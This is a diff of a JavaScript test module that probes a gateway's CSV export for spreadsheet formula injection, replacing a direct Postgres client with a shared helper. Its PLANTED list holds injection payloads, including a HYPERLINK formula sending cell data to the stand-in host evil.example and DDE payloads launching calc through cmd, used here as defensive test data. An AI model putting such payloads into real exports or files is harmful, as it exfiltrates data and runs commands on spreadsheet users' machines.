@@ -4,8 +4,7 @@
 //  - cells a spreadsheet would run as formulas (fiscal document numbers set to `=HYPERLINK(…)`,
 //    `@SUM(…)`, `+cmd|…`, `-2+3` in the database) are written as text (a leading `'`), and no
 //    cell of the file starts with `=`, `+`, `-` or `@` unless it is a plain number.
-import pg from 'pg';
-import { freshAddress, info, login, note, PHONES, rest, row } from '../lib.mjs';
+import { database, freshAddress, info, login, note, PHONES, rest, row } from '../lib.mjs';
 
 const PLANTED = ['=HYPERLINK("http://evil.example/?"&A1;"Подробнее")', '@SUM(1+1)*cmd|" /C calc"!A0', '+cmd|" /C calc"!A0', '-2+3'];
 const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)?$/;
@@ -45,8 +44,7 @@ export function parseCsv(text) {
 
 export async function gwExportProbe(world) {
   const gw = world.gateways[0].url;
-  const db = new pg.Client({ connectionString: world.pgUrl });
-  await db.connect();
+  const db = await database(world);
   const scopeRow = row('gw-export: regional manager’s CSV export scope');
   const formulaRow = row('gw-export: formula cells in the CSV export');
   const restore = [];
